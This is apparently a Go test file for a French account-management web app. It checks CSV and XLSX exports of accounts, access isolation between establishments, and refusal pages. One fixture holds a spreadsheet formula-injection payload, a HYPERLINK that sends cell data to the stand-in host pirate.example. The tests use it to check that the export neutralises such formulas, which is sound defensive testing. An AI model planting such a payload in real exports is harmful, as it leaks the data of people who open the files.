package web_test

import (
	"bytes"
	"context"
	"net/http"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/sesame-platform/sesame/internal/service"
	"github.com/sesame-platform/sesame/internal/sesame"
	"github.com/sesame-platform/sesame/internal/store"
	"github.com/sesame-platform/sesame/internal/testenv"
)

// exportSite is a site whose administrator Anne (logged in on admin) has
// three colleagues, Durand's department being a formula, and a second
// establishment with its own account.
type exportSite struct {
	*site
	admin                 *http.Client
	actor                 sesame.Actor
	martin, durand, roux  *service.NewAccount
	otherAdmin            *http.Client
	otherAccount          *service.NewAccount
	adminID, otherAdminID string
}

const formulaDept = `=HYPERLINK("http://pirate.example/?d="&A1,"Cliquez ici")`

func newExportSite(t *testing.T) *exportSite {
	t.Helper()
	ctx := context.Background()
	x := &exportSite{site: newSite(t, false)}
	x.adminID, _ = x.activeAdmin(t)
	x.admin = x.logInHTTP(t, x.adminID, "Vigne-Rouge-26!")
	x.actor = x.serviceActor(t, x.adminID, "Vigne-Rouge-26!")
	create := func(actor sesame.Actor, first, surname, email, dept string) *service.NewAccount {
		t.Helper()
		in := testenv.ValidPerson(first, surname, email)
		in.Department = dept
		na, err := x.Service.CreateAccount(ctx, actor, in, nil)
		if err != nil {
			t.Fatal(err)
		}
		return na
	}
	x.martin = create(x.actor, "Céline", "Martin", "celine.martin@mairie.example", "Ressources humaines")
	x.durand = create(x.actor, "Paul", "Durand", "paul.durand@mairie.example", formulaDept)
	x.roux = create(x.actor, "Célestin", "Roux", "celestin.roux@mairie.example", "Finances")

	inB := testenv.ValidEstablishment()
	inB.Name, inB.SIRET = "CENTRE HOSPITALIER DE LIBOURNE", "26330036300003"
	inB.RepFirstName, inB.RepSurname, inB.RepTitle = "Claire", "Moreau", "Directrice"
	adminB := testenv.ValidPerson("Hervé", "Lenoir", "herve.lenoir@ch-libourne.example")
	_, nb := x.Establishment(t, inB, adminB)
	x.activateLink(t, adminB.Email, "Vigne-Rouge-26!")
	x.otherAdminID = nb.Person.Identifier
	x.otherAdmin = x.logInHTTP(t, x.otherAdminID, "Vigne-Rouge-26!")
	x.otherAccount = create(x.serviceActor(t, x.otherAdminID, "Vigne-Rouge-26!"), "Luc", "Finot", "luc.finot@ch-libourne.example", "Finances")
	return x
}

// activateLink sets a password through the person's activation mail.
func (x *exportSite) activateLink(t *testing.T, email, password string) {
	t.Helper()
	link := x.ActivationLink(t, email)
	if _, err := x.Service.Activate(context.Background(), link[strings.LastIndex(link, "/")+1:], password, password, ""); err != nil {
		t.Fatal(err)
	}
}

// logInHTTP returns a client logged in as identifier.
func (x *exportSite) logInHTTP(t *testing.T, identifier, password string) *http.Client {
	t.Helper()
	c := browser(t)
	res := do(t, c, "POST", x.URL+"/connexion", url.Values{"identifier": {identifier}, "password": {password}})
	if res.status != http.StatusSeeOther {
		t.Fatalf("login %s: %d\n%s", identifier, res.status, res.body)
	}
	return c
}

func (x *exportSite) serviceActor(t *testing.T, identifier, password string) sesame.Actor {
	t.Helper()
	res, err := x.Service.Login(context.Background(), identifier, password, "", "")
	if err != nil {
		t.Fatal(err)
	}
	sess, err := x.Service.Authenticate(context.Background(), res.Secret)
	if err != nil {
		t.Fatal(err)
	}
	return sess.Actor("")
}

func countExports(t *testing.T, st *store.Store) int {
	t.Helper()
	n, err := st.Read().CountEvents(context.Background(), sesame.EventAccountsExported)
	if err != nil {
		t.Fatal(err)
	}
	return n
}

func TestExportDownloads(t *testing.T) {
	x := newExportSite(t)
	id := func(na *service.NewAccount) string { return strconv.FormatInt(na.Account.ID, 10) }

	// The checked rows, as the list's form sends them (one field may hold several).
	res := do(t, x.admin, "POST", x.URL+"/etablissement/comptes/export",
		url.Values{"format": {"csv"}, "ids": {id(x.martin) + "," + id(x.durand)}, "q": {"ignored"}})
	if res.status != http.StatusOK {
		t.Fatalf("export: %d\n%s", res.status, res.body)
	}
	for h, want := range map[string]string{
		"Content-Type":        "text/csv; charset=utf-8",
		"Content-Disposition": `attachment; filename=comptes-21330394500017-2026-03-18.csv`,
		"Cache-Control":       "no-store",
	} {
		if got := res.header.Get(h); got != want {
			t.Errorf("%s = %q, want %q", h, got, want)
		}
	}
	records := testenv.ReadCSV(t, res.bytes)
	if got := testenv.Column(records, "Nom"); !slices.Equal(got, []string{"Durand", "Martin"}) {
		t.Errorf("names = %q", got)
	}
	if got := testenv.Column(records, "Service"); got[0] != "'"+formulaDept {
		t.Errorf("the formula is not neutralised: %q", got[0])
	}

	// "Tout sélectionner" with the list's search and filter.
	res = do(t, x.admin, "POST", x.URL+"/etablissement/comptes/export",
		url.Values{"format": {"csv"}, "all": {"1"}, "ids": {id(x.martin)}, "q": {"cél"}, "filtre": {"pending"}})
	if got := testenv.Column(testenv.ReadCSV(t, res.bytes), "Nom"); res.status != 200 || !slices.Equal(got, []string{"Martin", "Roux"}) {
		t.Errorf("all=1: %d %q", res.status, got)
	}

	res = do(t, x.admin, "POST", x.URL+"/etablissement/comptes/export", url.Values{"format": {"xlsx"}, "all": {"1"}})
	if res.status != 200 || res.header.Get("Content-Type") != service.ContentTypeXLSX ||
		!strings.HasSuffix(res.header.Get("Content-Disposition"), ".xlsx") {
		t.Fatalf("xlsx: %d %v", res.status, res.header)
	}
	f, err := excelize.OpenReader(bytes.NewReader(res.bytes))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows("Comptes")
	if err != nil {
		t.Fatal(err)
	}
	if got := testenv.Column(rows, "Nom"); !slices.Equal(got, []string{"Durand", "Gueriot", "Martin", "Roux"}) {
		t.Errorf("xlsx names = %q", got)
	}
	if v, _ := f.GetCellValue("Comptes", "G2"); v != formulaDept {
		t.Errorf("xlsx department = %q", v)
	}
	if formula, _ := f.GetCellFormula("Comptes", "G2"); formula != "" {
		t.Errorf("xlsx department is the formula %q", formula)
	}
	if n := countExports(t, x.Store); n != 3 {
		t.Errorf("%d export events, want 3", n)
	}

	// B's administrator exports B's accounts only.
	res = do(t, x.otherAdmin, "POST", x.URL+"/etablissement/comptes/export", url.Values{"format": {"csv"}, "all": {"1"}})
	if got := testenv.Column(testenv.ReadCSV(t, res.bytes), "Nom"); !slices.Equal(got, []string{"Finot", "Lenoir"}) ||
		!strings.Contains(res.header.Get("Content-Disposition"), "26330036300003") {
		t.Errorf("B's export: %q, %s", got, res.header.Get("Content-Disposition"))
	}
}

func TestExportRefusedWithAPage(t *testing.T) {
	x := newExportSite(t)
	x.activateLink(t, "celine.martin@mairie.example", "Colline-Bleue-7!")
	user := x.logInHTTP(t, x.martin.Person.Identifier, "Colline-Bleue-7!")
	other := strconv.FormatInt(x.otherAccount.Account.ID, 10)
	for _, tc := range []struct {
		name   string
		client *http.Client
		form   url.Values
		status int
		text   string
	}{
		{"another establishment's account", x.admin, url.Values{"format": {"csv"}, "ids": {other}}, http.StatusNotFound, "rien n'a été exporté"},
		{"one of ours and one of theirs", x.admin, url.Values{"format": {"xlsx"}, "ids": {strconv.FormatInt(x.martin.Account.ID, 10), other}}, http.StatusNotFound, "rien n'a été exporté"},
		{"nothing checked", x.admin, url.Values{"format": {"csv"}}, http.StatusUnprocessableEntity, "Sélectionnez au moins un compte."},
		{"unknown format", x.admin, url.Values{"format": {"pdf"}, "all": {"1"}}, http.StatusUnprocessableEntity, "Format d'export inconnu"},
		{"a plain user", user, url.Values{"format": {"csv"}, "all": {"1"}}, http.StatusNotFound, "Page introuvable"},
		{"anonymous", browser(t), url.Values{"format": {"csv"}, "all": {"1"}}, http.StatusSeeOther, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			res := do(t, tc.client, "POST", x.URL+"/etablissement/comptes/export", tc.form)
			if res.status != tc.status || !strings.Contains(res.body, tc.text) {
				t.Errorf("%d, want %d with %q:\n%s", res.status, tc.status, tc.text, res.body)
			}
			if cd := res.header.Get("Content-Disposition"); cd != "" {
				t.Errorf("a refusal is sent as a download: %s", cd)
			}
		})
	}
	if n := countExports(t, x.Store); n != 0 {
		t.Errorf("%d refused exports recorded", n)
	}
	// Only a POST exports: an export is recorded, and a GET must change nothing.
	if res := do(t, x.admin, "GET", x.URL+"/etablissement/comptes/export?format=csv&all=1", nil); res.status != http.StatusNotFound {
		t.Errorf("GET: %d", res.status)
	}
}
